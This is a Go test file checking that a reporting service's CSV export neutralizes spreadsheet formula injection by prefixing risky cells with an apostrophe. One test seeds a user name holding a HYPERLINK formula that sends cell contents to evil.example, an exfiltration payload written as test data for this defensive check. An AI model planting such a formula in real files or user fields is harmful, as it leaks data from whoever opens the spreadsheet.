package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/workpulse/workpulse/services/platform/authn"
	"github.com/workpulse/workpulse/test/testkit"
)

func TestCSVTextNeutralizesFormulaCells(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"A cell starting with = is shown as text.", "=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"A cell starting with + is shown as text.", "+1+1", "'+1+1"},
		{"A cell starting with - is shown as text.", "-2+3", "'-2+3"},
		{"A cell starting with @ is shown as text.", "@SUM(A1)", "'@SUM(A1)"},
		{"A cell starting with a tab is shown as text.", "\t=1", "'\t=1"},
		{"A cell starting with a carriage return is shown as text.", "\r=1", "'\r=1"},
		{"An ordinary name stays as it is.", "Ada Lovelace", "Ada Lovelace"},
		{"A sign later in the cell stays as it is.", "Ada =1", "Ada =1"},
		{"An empty cell stays empty.", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := csvText(tt.in); got != tt.want {
				t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCSVDownloadNeutralizesAFormulaName(t *testing.T) {
	f := newFixture(t)
	mallory := testkit.Member(f.admin.OrganizationID, authn.RoleEmployee)
	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	f.user(f.admin.OrganizationID, mallory.UserID, name)
	f.seedSummary(mallory, "2026-05-04", 100, 0)

	r := f.do("GET", "/api/reports/organization?startDate=2026-05-04&endDate=2026-05-04&format=csv", &f.admin, "")
	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if r.status != 200 || err != nil || len(recs) != 2 {
		t.Fatalf("got %d %q %v", r.status, recs, err)
	}
	if got := recs[1][2]; got != "'"+name {
		t.Errorf("user_name cell %q, want it neutralized", got)
	}
}
